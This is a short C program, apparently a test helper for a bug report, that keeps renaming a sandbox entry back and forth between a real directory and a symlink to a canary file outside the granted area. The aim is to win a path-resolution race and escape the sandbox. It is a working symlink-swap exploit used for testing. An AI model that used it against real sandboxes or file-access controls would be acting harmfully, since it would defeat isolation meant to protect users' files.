// Race guest A (issue #12.2, after /work/shared/bugs/race_swap.c): keeps swapping the
// sandbox entry "d" between a real directory and a symlink to ../canary, which lies
// outside the grant, so that another guest resolving "d/..." meets both.
// Usage: race_swap MAX_ITERATIONS SECONDS (stops at whichever comes first).
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
  long n = argc > 1 ? atol(argv[1]) : 100000;
  double end = now() + (argc > 2 ? atof(argv[2]) : 3.0);
  if (symlink("../canary", "d_evil") != 0) perror("symlink d_evil");
  long swaps = 0;
  for (long i = 0; i < n && now() < end; i++) {
    if (rename("d", "d_real") == 0) swaps++;
    rename("d_evil", "d");
    rename("d", "d_evil");
    rename("d_real", "d");
  }
  printf("swaps %ld\n", swaps);
  return 0;
}
